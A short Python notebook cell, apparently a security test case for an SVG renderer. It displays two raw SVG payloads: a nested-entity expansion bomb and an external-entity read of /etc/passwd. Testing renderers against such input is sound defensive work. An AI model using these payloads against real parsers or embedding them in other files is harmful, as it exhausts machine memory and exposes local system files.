"""Entities in an SVG expand to gigabytes, or to a file of the machine."""

# %% answer:number
from IPython.display import display

entities = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
display(
    {
        "image/svg+xml": f"<!DOCTYPE svg [<!ENTITY a0 'x'>{entities}]><svg xmlns='http://www.w3.org/2000/svg'><text>&a11;</text></svg>"
    },
    raw=True,
)
display(
    {
        "image/svg+xml": "<!DOCTYPE svg [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&f;</text></svg>"
    },
    raw=True,
)
